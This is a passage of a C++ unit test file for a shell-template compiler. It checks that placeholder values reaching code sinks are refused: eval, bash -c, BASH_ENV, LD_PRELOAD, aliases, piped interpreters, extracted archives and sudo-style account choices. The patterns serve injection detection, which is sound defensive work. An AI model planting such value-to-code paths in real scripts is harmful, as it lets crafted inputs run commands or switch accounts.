                           "sort --compress-program=%X% big.txt", "jq -r \".%X%\" cfg.json",
                           "jq -r \".[\\\"%X%\\\"]\" cfg.json", "srun --task-prolog=%X% hostname"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  EXPECT_TRUE(refused(task("python3 -m %X%"), "placeholder-command"));
  for (const char* form : {"srun --export=ALL,EV=%X% python3 train.py", "jq -r --arg n \"%X%\" '.[$n]' cfg.json",
                           "docker run -e EV=%X% img python3 train.py"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
}

}  // namespace

namespace {

// Commands in every place bash runs them: `...`, for ((;;)) bodies, coproc
// bodies; and [[ a && b ]] is one test, not two commands.
TEST(ValueSinks, CommandsInBackquotesArithmeticLoopsAndCoprocesses) {
  for (const char* form : {"x=`%X%`", "R=`srun --ntasks=1 %X%`", "A=( `%X%` )", "for ((i=0;i<1;i++)); do %X%; done",
                           "for ((try=0; try<3; try++)); do srun --ntasks=1 %X% && break; done",
                           "coproc C { %X%; }"})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
  for (const char* form : {"R=`eval \"%X%\"`", "R=`bash -c \"%X%\"`", "for ((;;)); do eval \"%X%\"; done"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"if [[ -n \"%X%\" && \"%X%\" != none ]]; then echo; fi",
                           "[[ \"%X%\" == a || \"%X%\" == b ]] && echo yes", "[[ \"%X%\" > b ]] && echo",
                           "EPOCHS=%X%\nif [[ -n \"$EPOCHS\" && \"$EPOCHS\" -gt 0 ]]; then echo; fi"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
}

}  // namespace

namespace {

// A value may not choose which variable a command sets, nor a file a
// builtin loads as a program.
TEST(ValueSinks, AValueNeverNamesTheVariableSet) {
  for (const char* form : {"read -r %X% <<< \"/tmp\"", "read -a %X% <<< x", "mapfile -t %X% < f", "getopts \"a:\" %X%",
                           "printf -v %X% %s x", "wait -p %X%", "for %X% in /tmp; do ls; done",
                           "select %X% in a b; do break; done", "srun --export=ALL,%X%=/x bash -c true",
                           "mpirun -x %X%=/x bash -c true", "#SBATCH --export=ALL,%X%=/x\necho"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"hash -p %X% ls", "enable -f %X% foo"})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
  for (const char* form : {"read -r -p \"%X%\" answer", "read -r NAME <<< \"%X%\"", "mapfile -t -d \",\" A <<< \"%X%\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
}

}  // namespace

namespace {

// Scripts submitted or installed, code strings reading the template's files,
// word lists compgen expands, envsubst's input, set -- before "$@".
TEST(ValueSinks, ScriptsSubmittedAndFilesReadInCodeStrings) {
  const std::string child = "cat > child.sbatch <<'EOF'\n#!/bin/bash\necho %X%\nEOF\n";
  for (const char* run : {"sbatch child.sbatch", "sbatch --dependency=afterok:$SLURM_JOB_ID child.sbatch",
                          "sbatch -J x child.sbatch", "crontab child.sbatch"})
    EXPECT_TRUE(refused(task(child + run), "value-parsed-as-code")) << run;
  EXPECT_TRUE(refused(task("sbatch /dev/stdin <<EOF\n#!/bin/bash\necho \"%X%\"\nEOF"), "value-parsed-as-code"));
  const std::string env = "cat > job.env <<EOF\nexport N=\"%X%\"\nEOF\n";
  for (const char* run : {"srun bash -c 'source job.env && python3 train.py'", "trap 'bash job.env' EXIT",
                          "trap \"source job.env\" EXIT"})
    EXPECT_TRUE(refused(task(env + run), "value-parsed-as-code")) << run;
  EXPECT_TRUE(refused(task("compgen -W \"%X%\" > /dev/null"), "value-parsed-as-code"));
  EXPECT_TRUE(refused(task("echo \"%X%\" | envsubst > cfg"), "value-parsed-as-code"));
  EXPECT_TRUE(refused(task("set -- srun --ntasks=1\n\"$@\" %X%"), "placeholder-command"));
  EXPECT_TRUE(refused(task("\"$@\" %X%"), "placeholder-command"));  // the script has no arguments
  EXPECT_TRUE(rules(task(env + "srun bash -c 'source other.env && python3 train.py'")).empty());
}

}  // namespace

namespace {

// Aliases when bash expands them, a bare command name once PATH holds the
// template's directory, container recipes, perl's <>.
TEST(ValueSinks, AliasesPathRecipesAndPerlOperands) {
  for (const char* form : {"shopt -s expand_aliases\nalias run=eval\nrun \"%X%\"",
                           "set -o posix\nalias E=eval\nE \"%X%\"",
                           "shopt -s expand_aliases\nalias launch=\"srun --ntasks=1 \"\nlaunch %X%"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;  // eval's string is code; an alias ending in a blank runs %X%
  EXPECT_FALSE(rules(task("cat > child <<EOF\necho \"%X%\"\nEOF\nchmod +x child\nexport PATH=$PWD:$PATH\nchild")).empty());
  EXPECT_TRUE(rules(task("cat > child <<EOF\necho \"%X%\"\nEOF\nchild")).empty());  // PATH unchanged: not the file
  for (const char* recipe : {"Dockerfile", "env.def", "Singularity"})
    EXPECT_FALSE(rules(task(std::string("cat > ") + recipe + " <<'EOF'\nRUN %X%\nEOF")).empty()) << recipe;
  // perl -n and -p open each operand with <> (fr36: a plain word), whose
  // lines code that runs what it reads, or a script not read, may run.
  for (const char* form : {"perl -ne \"print\" %X%", "perl -pe \"s/a/b/\" \"%X%\"", "perl -lne \"print length\" -- \"%X%\""})
    EXPECT_TRUE(placement(task(form)).roles.has(sg::render::ElementRole::PerlOperand)) << form;
  for (const char* form : {"perl -ne 'eval' %X%", "perl -n loop.pl \"%X%\"", "perl -ne 'system($_)' \"%X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("perl train.pl --name \"%X%\"")).empty());
}

}  // namespace

namespace {

TEST(ValueSinks, PromptsAndArrayElements) {
  EXPECT_TRUE(refused(task("V=%X%; PS4='+$(eval \"$V\") '; set -x; true; set +x"), "value-parsed-as-code"));
  EXPECT_FALSE(rules(task("B[0]=bash; B[1]=-c\n\"${B[@]}\" \"%X%\"")).empty());
  const std::string written = "cat > cleanup.txt <<EOF\necho \"%X%\"\nEOF\n";
  for (const char* run : {"dd if=cleanup.txt of=c4 2>/dev/null; bash c4", "find . -name cleanup.txt -exec bash {} \\;"})
    EXPECT_TRUE(refused(task(written + run), "value-parsed-as-code")) << run;
}

// Sixth outside review, C3: what a program made of a value (V=$(... | tr , ' '),
// $(basename ...), $(jq -r ...)) and later split or read where an argument
// begins is checked as a rewrite, whatever copies it went through; a program
// that decodes escapes may make any text, so that use is refused.
TEST(ValueSinks, ProgramOutputsKeepTheRewriteRules) {
  for (const char* form : {"V=$(echo \"@\" | tr , ' ')\nfind $V -delete",
                           "V=$(echo \"@\" | sed 's/:/ /g')\nW=$V\nls $W",
                           "V=${D:-$(echo \"@\" | tr , ' ')}\nsrun python3 train.py --tag $V"}) {
    const auto p = placement(with(form));
    EXPECT_TRUE(p.context.split_later) << form;
    EXPECT_NE(p.context.split_chars.find(','), std::string::npos) << form;
    EXPECT_NE(p.context.split_chars.find('_'), std::string::npos) << form;
  }
  EXPECT_TRUE(placement(with("N=$(cut -d: -f2 <<< \"@\")\nsrun python3 train.py \"$N\"")).context.dash_anywhere);
  // Only what came out of the program: a value beside a substitution, or a count.
  EXPECT_FALSE(placement(with("D=\"/scratch/$(date +%s)_@\"\nmkdir -p \"$D\"\ncd $D")).context.split_chars.find(',') !=
               std::string::npos);
  EXPECT_FALSE(placement(with("N=$(echo \"@\" | tr , '\\n' | wc -l)\ntorchrun --nproc_per_node=$N x.py")).context.dash_anywhere);
  // Hunt 48 02: an awk program of the template's that prints a count.
  for (const char* form : {"G=\"@\"\nN=$(awk -F, '{print NF}' <<< \"$G\")\ntorchrun --nproc_per_node \"$N\" x.py",
                           "N=$(echo \"@\" | awk 'END { print NR }')\ntorchrun --nproc_per_node \"$N\" x.py"}) {
    const auto p = placement(with(form));
    EXPECT_FALSE(p.context.dash_anywhere) << form;
    EXPECT_EQ(p.roles.check("0,1,2,3"), nullptr) << form;
  }
  EXPECT_FALSE(rules(with("G=\"@\"\nN=$(awk -F, '{print $1}' <<< \"$G\")\ntorchrun --nproc_per_node \"$N\" x.py")).empty());
  for (const char* form : {"E=$(echo \"@\" | base64 -d)\npython3 x.py $E",
                           "cat > c.json <<EOF\n{\"d\": \"@\"}\nEOF\nD=$(jq -r .d c.json)\nfind $D -print",
                           "T=$(awk -v t=\"@\" 'BEGIN{print t}')\nsrun python3 x.py \"$T\""})
    EXPECT_TRUE(refused(with(form), "value-parsed-as-code")) << form;
  EXPECT_FALSE(refused(with("T=$(awk -v t=\"@\" 'BEGIN{print t}')\necho \"x=$T\""), "value-parsed-as-code"));
  EXPECT_FALSE(refused("E=$(echo ${CLEARML_TASK.id} | base64 -d)\npython3 x.py $E\n", "value-parsed-as-code"));
}

// Known gaps of the fifth review closed in the sixth round: $_ and
// BASH_ARGV carry the words before them; a nameref is what it names; a
// command name bash assembles (braces, a line continuation) may be any
// program; a file named at run time or in another language's code.
TEST(ValueSinks, BashSetVariablesAndAssembledCommandNames) {
  for (const char* form : {"logargs \"%X%\"; eval \"$_\"", "true \"%X%\"; L=$_; eval \"$L\"",
                           "shopt -s extdebug\nf(){ eval \"${BASH_ARGV[0]}\"; }\nf \"%X%\"",
                           "declare -n R=E; E=eval; $R \"%X%\"", "{eval,} \"%X%\"", "ev\\\nal \"%X%\""})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  const std::string written = "cat > cleanup.txt <<EOF\necho \"%X%\"\nEOF\n";
  for (const char* run : {"bash $(ls | grep cleanup)", "perl -e 'system(q(bash cleanup.txt))'",
                          "awk 'BEGIN{system(\"bash cleanup.txt\")}'"})
    EXPECT_TRUE(refused(task(written + run), "value-parsed-as-code")) << run;
  // The same file read as data, by shell code or by name in a shell string, stays data.
  EXPECT_TRUE(rules(task(written + "srun bash -c 'wc -l cleanup.txt'")).empty());
  EXPECT_TRUE(rules(task("echo \"%X%\"\nls \"$_\"")).empty());
  EXPECT_TRUE(rules(task("mkdir -p {a,b}/\"%X%\"")).empty());
}

// Seventh outside review: programs that run commands from their standard
// input (D3, D4), files written through an output option (D1), and what
// stays data (its false refusals).
TEST(ValueSinks, StandardInputInterpretersAndOutputFiles) {
  for (const char* form : {"echo \"%X%\" | sqlite3 runs.db", "sqlite3 runs.db <<'EOF'\n%X%\nEOF",
                           "echo \"%X%\" | script -q", "echo \"%X%\" | psql -d x",
                           "echo \"%X%\" | bash -c 'source /dev/stdin'", "echo \"%X%\" | sh -c 'read l; eval \"$l\"'",
                           "echo \"%X%\" | awk '{system($0)}'", "echo \"%X%\" | gawk '{print | \"sh\"}'"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  const std::string value_file = "echo \"%X%\" > a.txt\n";
  for (const char* copy : {"sort -o setup.sh a.txt", "uniq a.txt setup.sh", "shuf -o setup.sh a.txt",
                           "iconv -f utf-8 -t ascii -o setup.sh a.txt", "sed -n 'w setup.sh' a.txt",
                           "python3 -c 'import shutil; shutil.copy(\"a.txt\", \"setup.sh\")'"})
    EXPECT_TRUE(refused(task(value_file + copy + "\nbash setup.sh"), "value-parsed-as-code")) << copy;
  // Data stays data: a helper reading the file, a count, awk splitting on '|'.
  EXPECT_TRUE(rules(task(value_file + "python3 -c \"print(open('a.txt').read())\"")).empty());
  EXPECT_TRUE(rules(task("N=$(echo \"%X%\" | wc -w)\necho $((N * 2))")).empty());
  EXPECT_TRUE(rules(task("echo \"%X%\" | awk -F'|' '{print $1}'")).empty());
  EXPECT_TRUE(rules(task("echo \"%X%\" | sort -o sorted.txt\ncat sorted.txt")).empty());
}

// A function's text that another shell runs has none of the data block's
// variables; Slurm's commands read options from their environment.
TEST(ValueSinks, ExportedFunctionsAndSlurmsOptionVariables) {
  for (const char* form : {"f() { echo \"%X%\"; }\nexport -f f\nsrun bash -c f",
                           "f() { echo \"%X%\"; }\ndeclare -fx f\nsrun bash -c f",
                           "f() { echo %X%; }\nbash -c \"$(declare -f f); f\""})
    EXPECT_TRUE(refused(task(form), "value-in-exported-function")) << form;
  EXPECT_TRUE(rules(task("f() { echo \"%X%\"; }\nexport -f g\nf")).empty());
  EXPECT_TRUE(rules(task("f() { echo \"%X%\"; }\nf\nexport -f f")).size() == 1);
  EXPECT_TRUE(rules(task("export F=\"%X%\"\nf() { echo \"$F\"; }\nexport -f f\nsrun bash -c f")).empty());
  EXPECT_TRUE(rules("f() { echo ${CLEARML_TASK.id}; }\nexport -f f\nsrun bash -c f\n").empty());
  for (const char* form : {"export SLURM_CONTAINER=\"%X%\"\nsrun true", "SLURM_EXPORT_ENV=%X% srun true",
                           "export SBATCH_ACCOUNT=%X%", "export SRUN_CPUS_PER_TASK=\"%X%\"",
                           "export SLURM_SPANK__SLURM_SPANK_OPTION_pyxis_container_image=%X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("echo \"%X% $SLURM_JOB_ID\"")).empty());
}

// |number lifts the refusal of strings parsed again as code (a number is
// one plain word there), not of variables that load code (BASH_ENV=1
// sources ./1) nor of accounts (setpriv --reuid=0 is root).
TEST(ValueSinks, NumbersMayStandWhereCodeIsParsedAgain) {
  const std::string lr = "${CLEARML_TASK.hyperparams.Args.lr.value:0.1|number}";
  for (const std::string& form : {"bash -c \"python3 t.py --lr " + lr + "\"",
                                 "cat > env.sh <<EOF\nLR=" + lr + "\nEOF\nsource env.sh",
                                 "eval \"LR=" + lr + "\"", "ssh node1 \"nvidia-smi -i " + lr + "\""})
    EXPECT_TRUE(rules(form + "\n").empty()) << form;
  for (const std::string& form : {"export BASH_ENV=" + lr, "V=" + lr + "\nexport LD_PRELOAD=$V",
                                 "PATH=" + lr + " python3 t.py"})
    EXPECT_TRUE(refused(form + "\n", "value-parsed-as-code")) << form;
  EXPECT_TRUE(refused("setpriv --reuid=" + lr + " id\n", "value-chooses-account"));
  EXPECT_TRUE(refused("bash -c \"python3 t.py --lr ${CLEARML_TASK.hyperparams.Args.lr.value}\"\n",
                      "value-parsed-as-code"));
}

// Switches of code variables' families take a plain setting; the variables
// of those families that name files, programs or servers stay refused.
TEST(ValueSinks, SwitchesOfCodeVariableFamiliesTakeSettings) {
  for (const char* form : {"export HF_HUB_OFFLINE=%X%", "PYTHONUNBUFFERED=%X% python3 t.py",
                           "V=%X%\nexport TORCH_DISTRIBUTED_DEBUG=\"$V\"", "export TORCH_CUDA_ARCH_LIST=\"%X%\"",
                           // (fr39/01: Spark standalone's sizes and counts)
                           "export SPARK_WORKER_CORES=%X%", "export SPARK_WORKER_MEMORY=%X%g",
                           // (fr40/01: bash reads no TEMP or TMP; programs do, from the environment)
                           "TEMP=%X%\necho \"T=$TEMP\" > in.mdp", "TMP=%X%\necho $((TMP + 1))"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  EXPECT_TRUE(refused(task("export TEMP=%X%"), "value-parsed-as-code"));
  EXPECT_TRUE(placement(task("export SPARK_WORKER_MEMORY=\"%X%\"")).roles.has(sg::render::ElementRole::Quantity));
  for (const char* form : {"export HF_HOME=%X%", "export TORCH_EXTENSIONS_DIR=%X%", "export PYTHONPATH=%X%",
                           "export PYTHONSTARTUP=%X%", "export PYTHONINSPECT=%X%",
                           "export SPARK_CONF_DIR=%X%", "export SPARK_DAEMON_JAVA_OPTS=%X%", "export SPARK_HOME=%X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // Files of code or of commands that other programs load, found by the
  // thirtieth and thirty-first reviews accepted.
  for (const char* name : {"RDMAV_DRIVERS", "IBV_DRIVERS", "GDK_PIXBUF_MODULE_FILE", "DBUS_SESSION_BUS_ADDRESS",
                           "ESMFMKFILE", "S3CMD_CONFIG", "RCLONE_CONFIG", "CUDA_MPS_PIPE_DIRECTORY", "PHPRC",
                           "CLOUDSDK_CONFIG", "CUDA_CACHE_PATH", "WANDB_CONFIG_DIR", "EASYBUILD_ROBOT_PATHS"})
    EXPECT_TRUE(refused(task(std::string("export ") + name + "=%X%"), "value-parsed-as-code")) << name;
}

// Thirty-second review: a variable named at run time (a helper's "$1", a
// nameref to it, a brace expansion) may be BASH_ENV or PATH; a variable
// that loads code is one however it is assigned; bash's alias table and
// command hash; command_not_found_handle, which bash calls itself.
TEST(ValueSinks, VariablesNamedAtRunTimeAndCodeVariablesByAnyAssignment) {
  for (const char* form : {"opt() { printf -v \"$1\" '%s' \"$2\"; }\nopt DATASET \"%X%\"",
                           "opt() { declare -g \"$1=$2\"; }\nopt DATASET \"%X%\"",
                           "opt() { export \"$1=$2\"; }\nopt DATASET \"%X%\"",
                           "opt() { local -n _r=$1; _r=$2; }\nopt DATASET \"%X%\"",
                           "opt() { read -r \"$1\" <<< \"$2\"; }\nopt DATASET \"%X%\"",
                           "export {DATASET,DS_NAME}=\"%X%\"",
                           "read -r BASH_ENV <<< \"%X%\"", "printf -v BASH_ENV '%s' \"%X%\"",
                           ": \"${BASH_ENV:=%X%}\"", "declare -n ref=BASH_ENV\nref=\"%X%\"",
                           "for BASH_ENV in \"%X%\"; do :; done", "read -r PYTHONPATH <<< \"%X%\"",
                           "BASH_ALIASES[launch]=\"%X%\"", "BASH_CMDS[python3]=\"%X%\"",
                           "BASH_CMDS+=([python3]=\"%X%\")", "export LC_ALL=\"%X%\"", "export RUSTFLAGS=\"%X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"read -r HF_HUB_OFFLINE <<< \"%X%\"", "read -r DATASET <<< \"%X%\"\necho \"$DATASET\"",
                           "opt() { echo \"$1=$2\"; }\nopt DATASET \"%X%\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  EXPECT_TRUE(rules(task("export LANGCHAIN_PROJECT=\"%X%\"")).empty());
  EXPECT_TRUE(refused(task("export LANGUAGE=\"%X%\""), "value-parsed-as-code"));
  EXPECT_TRUE(refused(task("command_not_found_handle() {\n  \"%X%\" \"$@\"\n}"), "placeholder-command"));
}

// An archive extracted as a whole (tar x, unzip, 7z x, cpio -i, unsquashfs)
// writes a tree that holds what the archive held: a value choosing the
// archive chooses the code the template then runs from that tree.
TEST(ValueSinks, ExtractedArchivesHoldWhatTheArchiveDid) {
  for (const char* form : {"unzip -q \"kits/%X%.zip\" -d kit\nbash kit/setup.sh", "7z x \"kits/%X%.7z\" -okit\npython3 kit/run.py",
                           "cpio -idv < \"k/%X%.cpio\"\nsource ./env.sh", "unsquashfs \"k/%X%.sqfs\"\nsquashfs-root/run.sh",
                           // (a value in another word of tar's than the archive's name)
                           "tar -xzf kit.tgz --transform=\"s,^,%X%,\"\n. ./env.sh"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // tar naming the archive by a value: the tree holds what the archive does,
  // as a copy holds its source's, and the name meets the rule of code's
  // (fr hunt 76: tar -xf "/shared/archives/${model}.tar"; python train.py).
  for (const char* form : {"tar xf \"kits/%X%.tar\" -C /tmp/kit\nsource /tmp/kit/env.sh",
                           "tar -xzf \"data/%X%.tgz\"\n. ./env.sh", "tar --extract --file=\"k/%X%\" --directory=kit\nbash kit/a.sh",
                           "cd \"$SCRATCH/work\"\ntar -xf \"/shared/archives/%X%.tar\"\npython train.py"}) {
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
    EXPECT_FALSE(refuses(placement(task(form)), "resnet50")) << form;
    EXPECT_TRUE(refuses(placement(task(form)), "../x")) << form;
    EXPECT_TRUE(refuses(placement(task(form)), "/x")) << form;
  }
  // Members named after -- pick the archive's own files (attack 186).
  EXPECT_TRUE(rules(task("tar -xzf snapshot.tar.gz -C \"$SLURM_JOB_ID\" -- \"%X%\"\nsrun python3 train.py")).empty());
  EXPECT_TRUE(refused(task("tar -xzf snapshot.tar.gz -C kit \"%X%\"\nbash kit/run.sh"), "value-parsed-as-code"));
  // Data extracted and read as data, a template archive with a value for
  // its program, an archive only listed or created: the value stays data.
  for (const char* form : {"tar xf \"data/%X%.tar\" -C /scratch/d\npython3 train.py --data /scratch/d",
                           "tar xf kit.tar -C kit\npython3 kit/run.py --name \"%X%\"",
                           "unzip -l \"k/%X%.zip\"\nsource ./env.sh", "tar czf \"out-%X%.tgz\" logs\nsource ./env.sh"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  // The archive is read, wherever it is; a directory extracted into is no list of names.
  EXPECT_FALSE(placement(task("unzip -q %X% -d /tmp/x")).roles.has(sg::render::ElementRole::Path));
  EXPECT_FALSE(placement(task("tar -xzf %X% -C /tmp/x")).roles.has(sg::render::ElementRole::Path));
  EXPECT_TRUE(placement(task("tar -xzf d.tgz -T %X%")).roles.has(sg::render::ElementRole::Path));
  EXPECT_TRUE(placement(task("ldconfig -C %X% lib")).roles.has(sg::render::ElementRole::Path));  // the cache it writes
}

// Aliases (thirty-sixth review): where bash may expand them (shopt -s
// expand_aliases, posix mode however it is turned on, an interactive
// shebang), a name given through BASH_ALIASES is an alias like one the
// alias builtin defines, and aliases from code the compiler does not read
// (eval, source, BASH_ALIASES=(...)) may make any command one.
TEST(ValueSinks, AliasesFromAnySourceAreReadWhereBashExpandsThem) {
  for (const char* form : {"shopt -s expand_aliases\nBASH_ALIASES[pyrun]=\"python3 -c\"\npyrun \"%X%\"",
                           "export POSIXLY_CORRECT=1\nalias pyrun='python3 -c'\npyrun \"%X%\"",
                           "set -o posix\nalias pyrun='python3 -c'\npyrun \"%X%\"",
                           "shopt -so posix\nalias pyrun='python3 -c'\npyrun \"%X%\"",
                           "set -euo posix\nalias pyrun='python3 -c'\npyrun \"%X%\"",
                           "shopt -s expand_aliases\nsource /etc/profile.d/site.sh\ntrain \"%X%\"",
                           "shopt -s expand_aliases\neval \"$(site-aliases)\"\nrun \"%X%\"",
                           "shopt -s expand_aliases\nBASH_ALIASES=([run]=eval)\nrun \"%X%\"",
                           "shopt -s expand_aliases\nn=run\nBASH_ALIASES[$n]=eval\nrun \"%X%\""})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  const sg::compiler::Source interactive("t.tpl", "#!/bin/bash -i\n" + task("python3 t.py --name \"%X%\""));
  const auto c = sg::compiler::compile(interactive);
  EXPECT_TRUE(std::any_of(c.diagnostics.begin(), c.diagnostics.end(),
                          [](const auto& d) { return d.rule == "placeholder-command"; }));
  // A literal alias is read as its words (alias py="python3 -u"; py t.py reads python3 -u t.py).
  for (const char* form : {"shopt -s expand_aliases\nalias py=\"python3 -u\"\npy train.py --run-name \"%X%\"",
                           "shopt -s expand_aliases\nalias ll='ls -l'\nll -- \"%X%\"",
                           "shopt -s expand_aliases\nalias ls='ls --color=auto'\nls -- \"%X%\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  for (const char* form : {"shopt -s expand_aliases\nalias py=\"python3 -c\"\npy \"%X%\"",
                           "shopt -s expand_aliases\nalias run='sudo -u'\nrun \"%X%\" id",
                           "shopt -s expand_aliases\nalias run='python3 '\nrun \"%X%\"",
                           "shopt -s expand_aliases\nalias run=python3\nalias run=eval\nrun \"%X%\""})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  // Where bash expands no alias, neither a definition nor a sourced file changes a command.
  for (const char* form : {"alias pyrun='python3 -c'\npyrun x \"%X%\"", "BASH_ALIASES[p]=python3\np t.py \"%X%\"",
                           "# POSIX-style option parsing below\nsource env.sh\npython3 t.py --name \"%X%\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
}

// Thirty-seventh review: echo decodes escapes under shopt -s xpg_echo and
// when a variable before its operands holds -e; options that change how
// bash reads values (compatNN, BASH_COMPAT, cdable_vars) are refused.
TEST(ValueSinks, EchoDecodesWhereAnOptionOrAVariableSaysSo) {
  for (const char* form : {"shopt -s xpg_echo\nS=$(echo \"%X%\")\nbash \"stages/$S.sh\"",
                           "E=-e\necho $E \"%X%\" > name.txt", "echo \"${FLAGS}\" \"%X%\""})
    EXPECT_TRUE(placement(task(form)).context.escapes_decoded) << form;
  for (const char* form : {"echo \"%X%\" > name.txt", "echo \"$(date)\" \"%X%\"", "echo \"run %X%\" \"$HOST\""})
    EXPECT_FALSE(placement(task(form)).context.escapes_decoded) << form;
  for (const char* form : {"shopt -s compat31\n[[ $n =~ ^\"%X%\"$ ]]", "BASH_COMPAT=4.2\necho \"%X%\"",
                           "export BASH_COMPAT=31\necho \"%X%\"", "shopt -s cdable_vars\ncd \"%X%\""})
    EXPECT_TRUE(refused(task(form), "unmodeled-shell-option")) << form;
  EXPECT_TRUE(rules(task("shopt -u compat31\necho \"%X%\"")).empty());
}

// Thirty-fourth review: bash calls command_not_found_handle with the words
// of any command it finds no program for; names the template binds to a
// program (hash -p, BASH_CMDS, a link or copy) run that program; more
// programs that run what they read on standard input.
TEST(ValueSinks, ImplicitCallsRenamedProgramsAndConsoles) {
  const std::string handler = "command_not_found_handle() {\n  srun bash -lc \"$*\"\n}\n";
  EXPECT_TRUE(refused(task(handler + "fairseq-preprocess --tag \"%X%\""), "value-parsed-as-code"));
  for (const char* builtin : {"echo \"%X%\"", "printf '%s\\n' \"%X%\"", "/usr/bin/tool \"%X%\""})
    EXPECT_TRUE(rules(task(handler + builtin)).empty()) << builtin;
  for (const char* form : {"hash -p /usr/bin/python3 pyml\npyml \"%X%\"", "BASH_CMDS[py]=/usr/bin/python3\npy \"%X%\"",
                           "ln -sf \"$(command -v python3)\" tools/py\ntools/py \"%X%\"",
                           "hash -p \"$TOOL\" step\nstep \"%X%\""})
    EXPECT_TRUE(!rules(task(form)).empty() || placement(task(form)).roles.has(sg::render::ElementRole::CodePath)) << form;
  EXPECT_TRUE(rules(task("hash -p /usr/bin/rsync sync\nsync -a data/ \"out-%X%/\"")).empty());
  // A known program given another file (a wrapper that may run it) is read as neither.
  EXPECT_TRUE(refused(task("cp tools/launch.sh bin/srun\nexport PATH=\"$PWD/bin:$PATH\"\nsrun hostname --x=%X%"),
                      "placeholder-command"));
  EXPECT_TRUE(rules(task("ln -s \"$(command -v python3.11)\" bin/python3\nbin/python3 t.py --name \"%X%\"")).empty());
  // trap ACTION SIGNAL: the signal is no code; a lone operand may be either.
  EXPECT_TRUE(rules(task("trap cleanup \"%X%\"")).empty());
  EXPECT_TRUE(rules(task("trap -- cleanup USR1 \"%X%\"")).empty());
  EXPECT_TRUE(refused(task("trap \"%X%\""), "value-parsed-as-code"));
  EXPECT_TRUE(refused(task("trap -- \"%X%\" EXIT"), "value-parsed-as-code"));
  // Thirty-fifth review: interpreters a tool or a version manager runs.
  for (const char* form : {"python3 -m pip --python %X% list", "pip --python=%X% list", "virtualenv --python=%X% venv",
                           "poetry env use %X%", "pdm use %X%", "workon %X%", "pipenv --python %X% install"})
    EXPECT_TRUE(placement(task(form)).roles.has(sg::render::ElementRole::CodePath)) << form;
  EXPECT_TRUE(placement(task("export PYENV_VERSION=%X%")).roles.has(sg::render::ElementRole::Setting));
  EXPECT_TRUE(placement(task("export ASDF_PYTHON_VERSION=%X%")).roles.has(sg::render::ElementRole::Setting));
  EXPECT_TRUE(refused(task("export PYENV_ROOT=%X%"), "value-parsed-as-code"));
  for (const char* form : {"python3 -m code <<< \"print('%X%')\"", "sqlplus -s u/p <<< \"select '%X%' from dual;\"",
                           "curl -K - <<< \"url = %X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
}

// Interpreters' options before their code option: python's switches (-I
// takes nothing), a cluster of code options (node -pe), options whose
// argument count is unknown (julia -t 4 -e: the words after them are still
// read), pdb's -c.
TEST(ValueSinks, CodeOptionsAfterInterpretersOtherOptions) {
  for (const char* form : {"python3 -I -c \"print('%X%')\"", "node -pe \"'%X%'\"", "node -p -e \"'%X%'\"",
                           "node --title x -e \"'%X%'\"", "julia -t 4 -e \"println(\\\"%X%\\\")\"",
                           "lua -l x -e \"print('%X%')\"", "php -d x=1 -r \"echo '%X%';\"",
                           "python3 --check-hash-based-pycs always -c \"print('%X%')\"",
                           "python3 -m pdb -c \"p '%X%'\" t.py",
                           "python3 --check-hash-based-pycs always - <<EOF\nprint('%X%')\nEOF",
                           "erl -noshell -eval \"io:format('%X%')\"", "pwsh -Command \"Write-Output '%X%'\"", "pwsh -NoProfile -c \"'%X%'\"",
                           "deno eval \"console.log('%X%')\"", "elixir -e \"IO.puts('%X%')\"", "clisp -x \"'%X%'\"",
                           "graalpy -c \"print('%X%')\"", "bwrap --ro-bind / / python3 -c \"print('%X%')\"",
                           "proot python3 -c \"print('%X%')\"", "toybox sh -c \"echo %X%\"",
                           "sem python3 -c \"print('%X%')\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"python3 -u train.py -c \"%X%\"", "python3 -IuB train.py --name \"%X%\"",
                           "Rscript --vanilla train.R --name \"%X%\"", "python3 -u train.py <<EOF\n%X%\nEOF"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
}

// A value never chooses the account or group a command runs as, written
// there or through a variable; after the runner's own options the words
// are the program's (python -u is unbuffered output).
TEST(ValueSinks, AccountsCommandsRunAs) {
  for (const char* form : {"sudo -u %X% python3 x.py", "sudo --user=%X% python3 x.py", "sudo -g \"%X%\" id",
                           "U=%X%\nsudo -u \"$U\" python3 x.py", "doas -u %X% id", "runuser -u %X% -- id",
                           "runuser %X% -c id", "su - %X%", "su -c id %X%", "sg %X% -c id",
                           "chroot --userspec=%X% / id", "setpriv --reuid=%X% id", "nsenter -S %X% id",
                           "unshare --map-user=%X% id", "gosu %X% python3 x.py", "su-exec %X% python3 x.py",
                           "s6-setuidgid %X% prog", "systemd-run --uid=%X% --pipe prog", "systemd-run -p User=%X% prog",
                           "systemd-run --property=Group=%X% prog", "start-stop-daemon --start -c %X% --exec /bin/x",
                           "capsh --user=%X% -- -c x", "machinectl shell %X%@.host /bin/x", "srun --uid=%X% python3 x.py",
